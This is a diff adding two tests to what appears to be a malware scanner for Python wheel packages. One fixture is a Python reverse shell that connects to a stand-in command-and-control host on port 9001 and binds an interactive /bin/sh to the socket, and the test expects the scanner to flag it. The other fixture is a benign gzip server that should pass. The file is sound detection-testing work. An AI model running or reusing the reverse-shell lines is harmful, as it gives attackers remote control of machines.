@@ -82,3 +82,28 @@ test('a shell started by subprocess on the streams of the socket is found withou
     { class: 'malware', context: 'import', path: 'pkg/__init__.py', line: 6 },
   ]);
 });
+
+test('a shell whose streams are a connection is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import socket, subprocess',
+      "s = socket.create_connection(('c2.tools.invalid', 9001))",
+      "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
+    ),
+  });
+
+  expect(await inspect('reverse-shell', file)).toMatchObject([{ class: 'malware', score: 12, line: 3 }]);
+});
+
+test('a server that pipes a compressor to its client stays silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import socket, subprocess',
+      'def serve(path, port):',
+      '    link, _ = socket.create_server(("", port)).accept()',
+      "    subprocess.run(['gzip', '-c', path], stdout=link.fileno())",
+    ),
+  });
+
+  expect(await inspect('reverse-shell', file)).toEqual([]);
+});
